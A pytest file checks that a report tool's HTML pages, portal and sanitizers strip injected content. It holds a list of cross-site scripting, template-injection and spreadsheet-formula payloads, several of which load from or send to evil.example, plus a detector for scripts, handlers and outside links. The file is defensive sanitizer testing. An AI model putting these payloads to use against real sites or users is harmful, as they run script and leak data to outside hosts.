"""Whatever text the data hold, the page holds no script, no handler and no address outside itself."""

import json
import re

import lxml.etree
import lxml.html
import pytest
from nbformat import v4

from workbench.report import edition, portal, results
from workbench.report.sanitize import foreign, gate

CORPUS = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style>@import 'http://evil.example/x.css'</style></svg>",
    "javascript:alert(1)",
    "</style><style>body{background:url(http://evil.example/p.png)}",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=http://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    '=HYPERLINK("http://evil.example","x")',
    "{{ 7*7 }} {% raw %} ${7*7} {x:count}",
    "\u2028\u2029<!-- --!> ]]>",
]


def dangers(page):
    """Everything in a page that could run, load or lead away."""
    tree = lxml.html.document_fromstring(page)
    found = [element.tag for element in tree.xpath("//script[not(@type='application/json')]")]
    found += [
        e.tag
        for e in tree.iter("iframe", "object", "embed", "form", "base", "link", "button", "input", "foreignobject")
    ]
    found += [element.get("http-equiv") for element in tree.xpath("//meta[@http-equiv]")][1:]
    for element in tree.iter(lxml.etree.Element):
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{element.tag} {name}={value}")
            if name in ("href", "src", "xlink:href", "srcset", "action") and not re.match(
                r"#|data:text/csv;charset=utf-8,|data:image/png;base64,|[\w./%-]+$|data:image/svg\+xml;charset=utf-8,[\w%,.:'()=;-]*$",
                value,
            ):
                found.append(f"{element.tag} {name}={value}")
            if (
                "url(" in value.lower()
                and not re.fullmatch(r"url\(#[\w.-]+\)", value)
                and name in ("style", "fill", "clip-path")
            ):
                found.append(f"{element.tag} {name}={value}")
    found += [
        rule for style in tree.iter("style") for rule in re.findall(r"url\(|@import|expression\(", style.text or "")
    ]
    return found


def attacked(sample, payload):
    """The sample report with a payload in every text that can come from data, parameters or file names."""
    data = sample.summary(name=payload, title={"en": payload, "zh": payload}, timezone=payload, fingerprint=payload)
    data["ledger"].append({"table": payload, "reason": "no customer", "rows": 1})
    data["checks"].append(
        {"key": payload, "status": "fail", "value": payload, "threshold": payload,
         "message": "check-present", "values": {"rows": 3, "table": "orders", "column": payload}}
    )  # fmt: skip
    made = sample.notebook(data=data, dirty=payload)
    hand = v4.new_output("display_data", {"text/html": f"<table><tr><td>{payload}</td></tr></table>"})
    made.cells.append(v4.new_markdown_cell(f"## Left by hand\n\n{payload}"))
    made.cells.append(v4.new_code_cell("df", outputs=[hand], execution_count=12))
    run = sample.run(
        run_id=f"r{payload}",
        scope=payload,
        parameters={"period": "month", "name": payload},
        provenance={"command": payload, "code": payload, "packages": {payload: payload}, "started": payload},
    )
    return made, results.build(results.collect(made), run=run)


@pytest.mark.bad_input(38)
@pytest.mark.parametrize("payload", CORPUS)
def test_no_payload_reaches_the_report(sample, payload):
    made, built = attacked(sample, payload)
    before = {
        **built,
        "run_id": payload,
        "provenance": {"started": ""},
        "dataset": {**built["dataset"], "as_of": "2024-01-01"},
    }
    for lang in ("en", "zh"):
        page = edition.render(
            made, built, lang=lang, previous=[before], siblings={"en": payload, "zh": payload}, index=payload
        )
        assert dangers(page) == []
        data = lxml.html.document_fromstring(page).get_element_by_id("report-data").text
        assert json.loads(data)["scope"] == payload
        assert "<" not in data


@pytest.mark.parametrize("payload", CORPUS)
def test_no_payload_reaches_the_portal_or_the_page_of_a_failed_run(sample, payload, tmp_path):
    _, built = attacked(sample, payload)
    failed = results.build(
        results.collect(sample.notebook()), run=sample.run(status="failed", error={"message": payload}, title="T")
    )
    for name, run in (("a", built), ("b", {**failed, "scope": "x"})):
        folder = tmp_path / "cohort" / "all" / name
        folder.mkdir(parents=True)
        results.write(folder / "results.json", run)
    for path in portal.build(tmp_path, now="2025-01-05T00:00:00+00:00"):
        assert dangers(path.read_text("utf-8")) == []
    assert dangers(edition.failed(failed, last_good=payload, index=payload)) == []


@pytest.mark.parametrize("payload", CORPUS)
@pytest.mark.parametrize("clean", [gate, foreign])
def test_no_payload_passes_the_gate_as_html(clean, payload):
    assert (
        dangers("<!doctype html><html><body>" + clean(f"<p>{payload}</p><td>{payload}</td>") + "</body></html>") == []
    )


def test_the_gate_keeps_a_drawing_as_it_is():
    drawing = (
        '<svg class="fig" viewBox="0 0 9 9" role="img" aria-labelledby="t"><title id="t">T</title>'
        '<defs><clipPath id="c"><rect x="0" y="0" width="9" height="9"></rect></clipPath></defs>'
        '<g clip-path="url(#c)"><path d="M0 0L1 1" style="fill:none;stroke:var(--c1, #12436D)"></path></g></svg>'
    )
    assert str(gate(drawing)) == drawing
